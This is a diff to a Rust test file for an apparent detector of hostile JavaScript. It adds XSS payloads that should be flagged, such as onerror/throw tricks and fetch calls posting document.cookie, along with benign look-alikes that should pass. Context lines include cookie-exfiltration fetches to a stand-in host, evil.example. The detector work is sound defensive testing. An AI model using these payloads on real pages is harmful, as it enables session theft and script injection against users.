@@ -1162,12 +1162,16 @@ fn handler_assigned_in_a_block() {
             "{onerror=confirm};throw document.domain",
             "';{onerror=alert}throw 1;//",
             "if(1){onerror=alert}throw 1",
+            "{onerror=print}throw 1",
+            "{onerror=print};throw 1",
         ],
         &[
             "{level=alert}",
             "{severity=alert} disk almost full",
             "{type=alert}: {message}",
             "config {mode=alert}",
+            "window.onerror = handler; // throw errors here",
+            "Set onerror to a logger, then throw to test it",
         ],
     );
 }
@@ -1231,6 +1235,9 @@ fn harmless_browser_calls_with_literals() {
             "setTimeout('alert(1)',0)",
             "fetch('//evil.example/?'+document.cookie)",
             "fetch('/api').then(r=>r.text()).then(t=>fetch('//evil.example/'+t))",
+            "fetch(name)",
+            "fetch(u,{method:'POST',body:document.cookie})",
+            "fetch(location.hash.slice(1))",
         ],
         &[
             "window.scrollTo(0, 0)",
@@ -1241,6 +1248,7 @@ fn harmless_browser_calls_with_literals() {
             "window.onload = init;",
             "setTimeout(() => refresh(), 1000);",
             "fetch('/api/users').then(r => r.json())",
+            "const res = await fetch(url);",
         ],
     );
 }
